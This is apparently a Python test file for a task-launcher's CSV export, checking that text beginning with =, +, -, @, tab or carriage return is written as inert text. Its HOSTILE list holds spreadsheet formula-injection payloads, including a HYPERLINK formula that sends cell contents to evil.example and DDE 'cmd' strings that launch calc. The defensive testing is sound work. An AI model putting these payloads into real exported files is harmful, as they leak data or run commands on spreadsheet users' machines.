"""CSV export: a platform's text never becomes a spreadsheet formula (issue 11, item 6)."""

from __future__ import annotations

import csv
import io
import json

import pytest

from launcher.api import TaskGroup, TaskItem
from launcher.core.inbox.export import task_row, to_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _group(title: str, **extra: str) -> TaskGroup:
    item = TaskItem(
        platform=extra.get("platform", "demo.anquan"),
        id=extra.get("id", "t1"),
        title=title,
        url=extra.get("url", "http://127.0.0.1:9101/t/1"),
        subject=extra.get("subject"),
        status=extra.get("status", "open"),
    )
    return TaskGroup(key=item.key, items=(item,))


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("title", HOSTILE)
def test_a_title_that_starts_a_formula_is_written_as_text(title: str) -> None:
    [row] = _rows(to_csv([_group(title)]))
    assert row["title"] == "'" + title


def test_every_column_is_neutralised_not_only_the_title() -> None:
    group = _group(
        "普通标题", platform="=cmd", id="-1", url="@x", subject="+86 138", status="=A1"
    )
    [row] = _rows(to_csv([group]))
    assert row["platform"] == "'=cmd"
    assert row["id"] == "'-1"
    assert row["url"] == "'@x"
    assert row["subject"] == "'+86 138"
    assert row["status"] == "'=A1"
    assert row["platforms"] == "'=cmd"


def test_ordinary_text_is_unchanged() -> None:
    [row] = _rows(to_csv([_group("王家 门前 = 整改", subject="a-b")]))
    assert row["title"] == "王家 门前 = 整改"
    assert row["subject"] == "a-b"


def test_json_rows_keep_the_platforms_text() -> None:
    group = _group(HOSTILE[0])
    row = task_row(group)
    assert row["title"] == HOSTILE[0]
    assert json.loads(json.dumps(row))["title"] == HOSTILE[0]
